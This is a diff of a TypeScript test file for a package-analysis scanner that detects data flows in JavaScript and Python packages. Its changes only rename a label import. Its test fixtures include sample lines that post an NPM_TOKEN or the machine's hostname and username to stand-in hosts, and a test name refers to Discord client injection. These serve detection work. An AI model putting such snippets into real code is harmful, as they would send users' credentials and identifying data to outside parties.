@@ -11,7 +11,7 @@ import { pyCodeView } from '../../shared/packages/analysis/codeview.js';
 import { jsFlow } from '../../shared/packages/analysis/npm/flow-js.js';
 import { PY_FLOW_BUDGET, pyFlow } from '../../shared/packages/analysis/npm/flow-py.js';
 import { makeSdist } from '../support/archives.js';
-import { L } from '../../shared/packages/analysis/npm/flow-rules.js';
+import { LABEL } from '../../shared/packages/analysis/npm/flow-rules.js';
 import { isMentionOnly } from '../../shared/packages/analysis/npm/mention.js';
 
 const js = (src: string) => (jsFlow(src)?.hits ?? []).map((h) => h.rule.id);
@@ -65,11 +65,11 @@ test('discord_client_inject: writes into discord_desktop_core / core.asar (JS an
 test('fingerprint and token sends are facts with their destinations (JS and Python)', () => {
   const f = jsFlow("const os = require('os');\nconst req = require('https').request({ hostname: 'api.github.com', path: '/repos/a/b/issues', method: 'POST' });\nreq.end(JSON.stringify({ h: os.hostname() }));")!;
   assert.is(f.sends.length, 1);
-  assert.ok(f.sends[0]!.labels & L.FINGERPRINT);
+  assert.ok(f.sends[0]!.labels & LABEL.FINGERPRINT);
   assert.ok(f.sends[0]!.dests.includes('api.github.com') && f.sends[0]!.dests.includes('/repos/a/b/issues'));
   const p = pyFlow('import requests, os\ntok = os.environ["NPM_TOKEN"]\nrequests.post("https://x.example/t", data={"t": tok})\n');
   assert.is(p.sends.length, 1);
-  assert.ok(p.sends[0]!.labels & L.NPM_TOKEN);
+  assert.ok(p.sends[0]!.labels & LABEL.NPM_TOKEN);
   assert.equal(p.sends[0]!.dests, ['https://x.example/t']);
   assert.is(jsFlow("fetch('https://api.example/v1', { method: 'POST', body: JSON.stringify({ v: 1 }) });")!.sends.length, 0);
 });
@@ -81,14 +81,14 @@ test('an object key is a field name, not a use of a variable of that name; writi
   assert.is(jsFlow(real)!.sends.length, 0, 'no fingerprint reaches the request');
   // Variant: the shorthand `{ headers }` is the variable, and a computed key is read.
   const short = "const os = require('os');\nconst headers = { 'X-Host': os.hostname() };\nrequire('https').request({ hostname: 'collect.example-metrics.dev', headers }).end();\n";
-  assert.ok(jsFlow(short)!.sends[0]!.labels & L.FINGERPRINT, 'a shorthand property is its variable');
+  assert.ok(jsFlow(short)!.sends[0]!.labels & LABEL.FINGERPRINT, 'a shorthand property is its variable');
   const computed = "const os = require('os');\nconst k = os.userInfo().username;\nrequire('https').request({ hostname: 'collect.example-metrics.dev', headers: { [k]: 1 } }).end();\n";
-  assert.ok(jsFlow(computed)!.sends[0]!.labels & L.FINGERPRINT, 'a computed key is a value');
+  assert.ok(jsFlow(computed)!.sends[0]!.labels & LABEL.FINGERPRINT, 'a computed key is a value');
   // Writing a child's environment does not make every later `process.x` a fingerprint; reading one still is.
   const env = "process.env.DB_HOME = process.cwd() + '/clidriver';\nrequire('https').request({ hostname: 'dl.example-cdn.dev', path: '/' + process.platform + '/' + process.arch }).end();\n";
   assert.is(jsFlow(env)!.sends.length, 0);
   const user = "require('https').request({ hostname: 'collect.example-metrics.dev', path: '/u/' + process.env.USER }).end();\n";
-  assert.ok(jsFlow(user)!.sends[0]!.labels & L.FINGERPRINT);
+  assert.ok(jsFlow(user)!.sends[0]!.labels & LABEL.FINGERPRINT);
 });
 
 test('spawn facts: a bundled executable started detached, through a variable and unref()', () => {
